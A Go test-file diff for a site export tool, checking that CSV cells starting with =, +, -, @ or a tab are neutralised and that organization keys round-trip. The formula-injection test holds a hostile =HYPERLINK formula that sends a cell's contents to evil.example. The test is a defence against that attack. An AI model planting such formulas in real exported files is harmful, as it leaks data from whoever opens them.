@@ -532,3 +532,76 @@ func TestDirOutput(t *testing.T) {
 		t.Errorf("after an abort the parent holds %d entries", len(entries))
 	}
 }
+
+// TestCSVCellsASpreadsheetWouldRun: a text cell starting with =, +, -, @,
+// a tab or a carriage return (a hostile "=HYPERLINK(...)" from a pull
+// request) is written as a JSON string, which a spreadsheet shows as text,
+// and still reads back to the value.
+func TestCSVCellsASpreadsheetWouldRun(t *testing.T) {
+	files := map[string]string{}
+	for k, v := range tricky {
+		if !strings.HasPrefix(k, "content/acme/assets/") {
+			files[k] = v
+		}
+	}
+	files["content/acme/assets/kit/f1.toml"] = "name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")'\nlabels = [\"@SUM(1)\", \"ok\"]\nnotes = \"+1 555 0150\"\ncount = -3\n"
+	files["content/acme/assets/kit/f2.toml"] = "name = \"-2+3\"\nnotes = \"\\tcmd\"\n"
+	s := openSite(t, writeSite(t, files))
+	m := run(t, s, export.Options{Format: "csv"})
+	want := "id,org,file,name,count,ratio,ok,bought,labels,ports,notes\n" +
+		`acme/assets/kit/f1,acme,content/acme/assets/kit/f1.toml,"""=HYPERLINK(\""http://evil.example/?\""&A1,\""open\"")""",-3,,,,"[""@SUM(1)"",""ok""]",,"""+1 555 0150"""` + "\n" +
+		`acme/assets/kit/f2,acme,content/acme/assets/kit/f2.toml,"""-2+3""",,,,,,,"""\tcmd"""` + "\n"
+	if got := string(m.files["assets/kit.csv"]); got != want {
+		t.Errorf("assets/kit.csv:\n%s\nwant\n%s", got, want)
+	}
+	roundTrip(t, s, m, "csv", "", "")
+}
+
+// TestOrganizationsKeepEveryKey: organizations.csv has a column for every
+// key org.toml may set, import_id and suppress included, so an imported
+// organization reads back with the id a later import merges by.
+func TestOrganizationsKeepEveryKey(t *testing.T) {
+	files := map[string]string{}
+	for k, v := range tricky {
+		files[k] = v
+	}
+	files["content/acme/org.toml"] = "name = \"Acme\"\nkind = \"client\"\nimport_id = \"itglue/organizations/42\"\nsuppress = [{rule = \"documents-before-assets\", reason = \"a prospect, \\\"proposal\\\" first\"}]\n"
+	s := openSite(t, writeSite(t, files))
+	for _, format := range export.Formats {
+		t.Run(format, func(t *testing.T) {
+			roundTrip(t, s, run(t, s, export.Options{Format: format}), format, "", "")
+		})
+	}
+	want := "slug,name,kind,status,shared,short_name,description,quick_notes,alerts,import_id,suppress\n" +
+		`acme,Acme,client,,,,,,,itglue/organizations/42,"[{""reason"":""a prospect, \""proposal\"" first"",""rule"":""documents-before-assets""}]"` + "\n"
+	got := string(run(t, s, export.Options{Format: "csv"}).files["organizations.csv"])
+	if got != want {
+		t.Errorf("organizations.csv:\n%s\nwant\n%s", got, want)
+	}
+	// A key model.Org reads gets a column, so one added later is not
+	// silently left out of the CSV.
+	header := "," + strings.SplitN(got, "\n", 2)[0] + ","
+	org := reflect.TypeOf(model.Org{})
+	for i := range org.NumField() {
+		key := strings.Split(org.Field(i).Tag.Get("toml"), ",")[0]
+		if key != "" && key != "-" && !strings.Contains(header, ","+key+",") {
+			t.Errorf("org.toml's key %q has no column in organizations.csv", key)
+		}
+	}
+}
+
+// TestItemSuppressReadsBack: an item's suppress (an array of tables, a
+// reserved key of every item) is a JSON cell that reads back as the array.
+func TestItemSuppressReadsBack(t *testing.T) {
+	files := map[string]string{}
+	for k, v := range tricky {
+		files[k] = v
+	}
+	files["content/acme/assets/kit/k3.toml"] = "name = \"k3\"\nimport_id = \"itglue/kits/7\"\nsuppress = [{rule = \"naming\", reason = \"the vendor's name, kept\"}]\n"
+	s := openSite(t, writeSite(t, files))
+	for _, format := range export.Formats {
+		t.Run(format, func(t *testing.T) {
+			roundTrip(t, s, run(t, s, export.Options{Format: format}), format, "", "")
+		})
+	}
+}
